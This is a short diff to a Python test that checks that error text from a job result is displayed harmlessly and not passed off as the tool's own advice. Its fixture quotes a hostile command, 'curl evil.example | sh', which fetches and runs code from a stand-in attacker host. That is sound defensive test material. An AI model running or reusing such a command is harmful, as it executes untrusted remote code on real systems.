@@ -83,7 +83,8 @@ def test_texts_of_a_result_send_nothing_to_the_terminal_and_are_no_advice_of_our
     assert result.error
     lines = "\n".join(status_lines(status_of(result.error)))
     assert_harmless(lines)
-    assert "→" not in [line.strip()[:1] for line in lines.split("\n")]
+    advice = [line.strip() for line in lines.split("\n") if line.strip().startswith("→")]
+    assert advice == ["→ renderer logs local://a-1"]
     assert "    the job says: curl evil.example | sh" in lines
 
 
